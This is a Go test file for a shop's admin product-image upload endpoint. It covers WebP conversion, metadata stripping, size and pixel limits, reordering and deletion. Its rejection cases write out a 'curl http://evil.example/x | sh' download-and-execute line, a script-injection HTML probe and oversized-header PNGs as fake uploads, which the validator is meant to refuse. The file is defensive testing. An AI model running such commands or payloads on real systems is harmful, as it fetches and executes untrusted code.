package admin_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	goimage "image"
	"image/color"
	"image/jpeg"
	"image/png"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chai2010/webp"

	"shop/internal/admin"
	"shop/internal/testkit"
)

func picture(w, h int, alpha bool) goimage.Image {
	m := goimage.NewNRGBA(goimage.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			a := uint8(255)
			if alpha && x < w/4 {
				a = 0
			}
			m.SetNRGBA(x, y, color.NRGBA{uint8(x * 255 / w), uint8(y * 255 / h), 90, a})
		}
	}
	return m
}

const secret = "GPS 1.2921S 36.8219E Nokia-secret-camera"

// photoJPEG is a JPEG with an EXIF-like APP1 segment carrying a secret,
// as a phone camera writes its location.
func photoJPEG(t *testing.T, w, h int) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, picture(w, h, false), &jpeg.Options{Quality: 85}); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	payload := append([]byte("Exif\x00\x00"), secret...)
	seg := []byte{0xFF, 0xE1, 0, 0}
	binary.BigEndian.PutUint16(seg[2:], uint16(len(payload)+2))
	out := append([]byte{}, b[:2]...)
	out = append(out, seg...)
	out = append(out, payload...)
	return append(out, b[2:]...)
}

func pngOf(t *testing.T, m goimage.Image) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := png.Encode(&buf, m); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// pngHeader is a tiny file whose header claims w×h pixels.
func pngHeader(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		binary.Write(&b, binary.BigEndian, uint32(len(data)))
		b.WriteString(typ)
		b.Write(data)
		binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	chunk("IHDR", ihdr)
	chunk("IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})
	chunk("IEND", nil)
	return b.Bytes()
}

func TestImageUpload(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		cat := e.category("Feeds", nil)
		p := e.product("Dairy Meal", cat.ID, "3650", true)
		path := fmt.Sprintf("/api/admin/products/%d/images/", p.ID)
		dir := filepath.Join(e.media, "products")

		// A phone photo: stored as 400 and 800 px wide WebP, metadata gone.
		rec := e.upload(path, "IMG_2041.jpg", "image/jpeg", photoJPEG(t, 1200, 900))
		testkit.WantStatus(t, rec, http.StatusCreated)
		photo := testkit.Decode[image](t, rec)
		if !strings.HasPrefix(photo.Image, "/media/products/") || !strings.HasSuffix(photo.Image, "-800.webp") ||
			photo.Width != 800 || photo.Height != 600 || photo.SortOrder != 0 {
			t.Fatalf("image %+v", photo)
		}
		base := strings.TrimSuffix(filepath.Base(photo.Image), "-800.webp")
		for _, w := range []int{400, 800} {
			b, err := os.ReadFile(filepath.Join(dir, fmt.Sprintf("%s-%d.webp", base, w)))
			if err != nil {
				t.Fatal(err)
			}
			if string(b[:4]) != "RIFF" || string(b[8:12]) != "WEBP" || bytes.Contains(b, []byte("Nokia-secret")) || bytes.Contains(b, []byte("Exif")) {
				t.Fatalf("%d px version is not a clean WebP", w)
			}
			cfg, err := webp.DecodeConfig(bytes.NewReader(b))
			if err != nil || cfg.Width != w {
				t.Fatalf("%d px version decodes as %+v, %v", w, cfg, err)
			}
		}
		// The media handler serves it.
		testkit.WantStatus(t, e.do("GET", photo.Image, "", nil), http.StatusOK)

		// A small PNG with transparency is never upscaled: one version.
		rec = e.upload(path, "logo.png", "image/png", pngOf(t, picture(300, 200, true)))
		testkit.WantStatus(t, rec, http.StatusCreated)
		logo := testkit.Decode[image](t, rec)
		if !strings.HasSuffix(logo.Image, "-300.webp") || logo.Width != 300 || logo.Height != 200 || logo.SortOrder != 1 {
			t.Fatalf("png image %+v", logo)
		}
		// A WebP is accepted too.
		small, err := webp.EncodeRGB(picture(500, 500, false), 80)
		if err != nil {
			t.Fatal(err)
		}
		rec = e.upload(path, "bag.webp", "image/webp", small)
		testkit.WantStatus(t, rec, http.StatusCreated)
		bag := testkit.Decode[image](t, rec)

		// The real content decides, not the name or the browser's type.
		testkit.WantError(t, e.upload(path, "photo.jpg", "image/jpeg", []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n")),
			http.StatusBadRequest, "image", admin.MsgImageType)
		testkit.WantError(t, e.upload(path, "page.png", "image/png", []byte("<html><script>alert(1)</script></html>")),
			http.StatusBadRequest, "image", admin.MsgImageType)
		testkit.WantError(t, e.upload(path, "anim.gif", "image/gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")),
			http.StatusBadRequest, "image", admin.MsgImageType)
		// A damaged file: a JPEG cut short, and a PNG with garbage after its signature.
		whole := photoJPEG(t, 640, 480)
		testkit.WantError(t, e.upload(path, "cut.jpg", "image/jpeg", whole[:len(whole)/3]), http.StatusBadRequest, "image", admin.MsgImageCorrupt)
		testkit.WantError(t, e.upload(path, "bad.png", "image/png", append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{7}, 300)...)),
			http.StatusBadRequest, "image", admin.MsgImageCorrupt)
		testkit.WantError(t, e.upload(path, "huge.png", "image/png", pngHeader(30000, 30000)), http.StatusBadRequest, "image", admin.MsgImagePixels)
		// 42 megapixels in a few hundred bytes: refused from the header alone.
		testkit.WantError(t, e.upload(path, "tall.png", "image/png", pngHeader(7000, 6000)), http.StatusBadRequest, "image", admin.MsgImagePixels)
		// Over the size limit: 413 with words, whether the file or the whole body is too big.
		big := append(append([]byte{}, whole...), make([]byte, admin.MaxImageBytes)...)
		testkit.WantError(t, e.upload(path, "big.jpg", "image/jpeg", big), http.StatusRequestEntityTooLarge, "image", admin.MsgImageTooBig)
		testkit.WantError(t, e.upload(path, "bigger.jpg", "image/jpeg", make([]byte, admin.MaxUploadBody+10)), http.StatusRequestEntityTooLarge, "image", admin.MsgImageTooBig)
		testkit.WantError(t, e.upload("/api/admin/products/999999/images/", "x.png", "image/png", pngOf(t, picture(10, 10, false))), http.StatusNotFound, "", "Product not found")
		// JSON is not a file: refused before the handler, like any body of
		// the wrong kind.
		testkit.WantStatus(t, e.as("POST", path, map[string]string{"image": "x"}), http.StatusUnsupportedMediaType)
		testkit.WantError(t, e.upload(path, "", "", nil), http.StatusBadRequest, "image", admin.MsgImageMissing)

		// Reorder: every image once.
		order := fmt.Sprintf("/api/admin/products/%d/images/order/", p.ID)
		rec = e.as("PUT", order, map[string]any{"ids": []int64{bag.ID, photo.ID, logo.ID}})
		testkit.WantStatus(t, rec, http.StatusOK)
		if got := testkit.Decode[[]image](t, rec); got[0].ID != bag.ID || got[1].ID != photo.ID || got[2].ID != logo.ID {
			t.Fatalf("reordered %+v", got)
		}
		testkit.WantError(t, e.as("PUT", order, map[string]any{"ids": []int64{bag.ID, bag.ID, logo.ID}}), http.StatusBadRequest, "", "List every image of this product once, in the new order.")
		shop := testkit.Decode[product](t, e.do("GET", fmt.Sprintf("/api/products/%d/", p.ID), "", nil))
		if len(shop.Images) != 3 || shop.Images[0].ID != bag.ID {
			t.Fatalf("shop images %+v", shop.Images)
		}

		// Deleting an image removes its files.
		testkit.WantStatus(t, e.as("DELETE", fmt.Sprintf("%s%d/", path, photo.ID), nil), http.StatusNoContent)
		if _, err := os.Stat(filepath.Join(dir, base+"-400.webp")); !os.IsNotExist(err) {
			t.Fatalf("400 px file still there: %v", err)
		}
		testkit.WantStatus(t, e.as("DELETE", fmt.Sprintf("%s%d/", path, photo.ID), nil), http.StatusNotFound)
		// Deleting the product removes the rest.
		testkit.WantStatus(t, e.as("DELETE", fmt.Sprintf("/api/admin/products/%d/", p.ID), nil), http.StatusOK)
		left, _ := os.ReadDir(dir)
		if len(left) != 0 {
			t.Fatalf("files left: %v", left)
		}
	})
}
